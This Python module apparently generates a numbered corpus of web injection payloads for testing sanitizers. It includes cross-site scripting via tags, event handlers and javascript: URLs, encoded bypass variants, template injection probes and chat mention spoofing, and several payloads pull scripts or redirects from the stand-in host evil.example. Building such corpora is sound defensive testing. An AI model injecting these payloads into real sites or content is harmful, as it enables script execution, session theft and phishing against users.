"""Text that would be a script where it is not shown as text: made of parts, each with a number of its own."""

from collections.abc import Iterator
from functools import cache
from itertools import cycle

ACT = "alert({n})"
ELSEWHERE = "//evil.example/{n}"  # whatever is asked of it is told by its path

ELEMENTS = (
    f"<script>{ACT}</script>",
    f"<script src={ELSEWHERE}.js></script>",
    f"<img src=x onerror={ACT}>",
    f"<img src={ELSEWHERE}.png>",
    f"<svg onload={ACT}>",
    f"<svg><script>{ACT}</script></svg>",
    f"<svg><a xlink:href=javascript:{ACT}><text>x</text></a></svg>",
    f"<svg><animate onbegin={ACT} attributeName=x dur=1s>",
    f'<iframe srcdoc="<script>parent.{ACT}</script>"></iframe>',
    f"<iframe src=javascript:{ACT}></iframe>",
    f"<details open ontoggle={ACT}>x</details>",
    f"<video><source onerror={ACT}></video>",
    f"<audio src=x onerror={ACT}></audio>",
    f"<input autofocus onfocus={ACT}>",
    f"<select autofocus onfocus={ACT}></select>",
    f"<button popovertarget=x onclick={ACT}>x</button>",
    f"<marquee onstart={ACT}>x</marquee>",
    f"<object data=javascript:{ACT}></object>",
    f"<embed src=javascript:{ACT}>",
    f"<a href=javascript:{ACT} autofocus tabindex=1 onfocus={ACT}>x</a>",
    f"<form action=javascript:{ACT}><button autofocus onfocus={ACT}>x</button></form>",
    f'<meta http-equiv=refresh content="0;url={ELSEWHERE}">',
    "<base href=//evil.example/>",
    f"<link rel=stylesheet href={ELSEWHERE}.css>",
    f"<style>@import '{ELSEWHERE}.css';</style>",
    f'<p style="background:url({ELSEWHERE})">x</p>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={ACT}>",
    f"<noscript><p title='</noscript><img src=x onerror={ACT}>'>",
    f"<template><img src=x onerror={ACT}></template>",
    f"<qa-widget api=//evil.example question='{ACT}'></qa-widget>",
    f"<body onload={ACT}>",
    f"<dialog open onclose={ACT}>x</dialog>",
)
BREAKING_OUT = (
    '"',
    "'",
    '">',
    "'>",
    "`>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</a></li></ul>",
    "</code></pre>",
    "</mark></p>",
    "</table></dialog>",
    "--><!-- x -->",
    "]]>",
    "\\'\\\">",
)
ATTRIBUTES = (
    f'" onmouseover="{ACT}" x="',
    f"' onfocus='{ACT}' autofocus x='",
    f'" autofocus onfocus={ACT} tabindex=1 x=',
    f" onpointerenter={ACT} style=position:fixed;inset:0 ",
    f'" formaction="javascript:{ACT}',
    f'" src="{ELSEWHERE}',
)
SCHEMES = (
    f"javascript:{ACT}",
    f"JaVaScRiPt:{ACT}",
    f"java\tscript:{ACT}",
    f" javascript:{ACT}",
    f"javascript://example.org/%0a{ACT}",
    f"data:text/html,<script>{ACT}</script>",
    f"vbscript:{ACT}",
    f"//evil.example/{ACT}",
    f"https:evil.example/{ACT}",
    f"https://user@evil.example/{ACT}",
)
MARKDOWN = (
    f"[x](javascript:{ACT})",
    f"![x]({ELSEWHERE}.png)",
    f"<javascript:{ACT}>",
    f'[x](https://e.org "x" onmouseover={ACT})',
    f"<img src=x onerror={ACT}> **[1]** | <b> |",
    f"```\n<script>{ACT}</script>\n```",
)
TEMPLATES = (
    "{{7*{n}}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{n}{% endfor %}",
    "${7*{n}}",
    "#{7*{n}}",
    "{0.__class__} {n}",
    "<%= 7*{n} %>",
    "{{config}} {n}",
)
CHAT = (
    "<!channel> {n}",
    "<!everyone> {n}",
    "<@U000000001> {n}",
    "<https://evil.example/{n}|Your account>",
    "<javascript:alert({n})|x>",
    "<!subteam^S1> {n}",
)


def _disguised(markup: str) -> Iterator[str]:
    """The same in other letters."""
    yield markup.upper().replace("ALERT({N})", ACT)
    yield markup.replace(" ", "/").replace("><", "/><")
    yield markup.replace("<", "&lt;").replace(">", "&gt;")
    yield markup.replace("<", "&#x3c;").replace(">", "&#62;")
    yield markup.replace("<", "%3C").replace(">", "%3E")
    yield markup.replace("<", "＜").replace(">", "＞")
    yield markup.replace("<", "<<").replace(">", "//>")
    yield markup.replace("=", "\n=\n")


def _made() -> Iterator[str]:
    yield from (*ELEMENTS, *ATTRIBUTES, *SCHEMES, *MARKDOWN, *TEMPLATES, *CHAT)
    elements = cycle(ELEMENTS)
    for out in BREAKING_OUT:
        for _ in range(4):
            yield out + next(elements)
    for element in ELEMENTS[:6]:
        yield from _disguised(element)


@cache
def payloads() -> tuple[str, ...]:
    """All of them, each once; ``alert(17)`` tells that it was the one with the number 17."""
    numbered = (one.replace("{n}", str(number)) for number, one in enumerate(_made()))
    return tuple(dict.fromkeys(numbered))
